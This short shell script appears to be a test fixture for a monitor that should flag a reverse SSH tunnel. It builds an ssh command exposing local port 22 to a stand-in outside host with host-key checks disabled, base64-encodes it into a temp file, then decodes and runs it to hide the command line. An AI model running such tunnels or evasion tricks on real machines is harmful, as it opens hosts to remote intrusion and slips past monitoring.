# The command line stands in a file that the call only names.
#: in watched
#: needs ssh
#: open script.ssh.allowed.example:$PORT_SSH
#: finding tunnel.reverse-ssh
echo "timeout 10 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -N -R 127.0.0.1:0:localhost:22 -p $PORT_SSH $SSH_USER@script.ssh.allowed.example" | base64 > /tmp/$ID.b64
base64 -d < /tmp/$ID.b64 > /tmp/$ID.sh
sh /tmp/$ID.sh
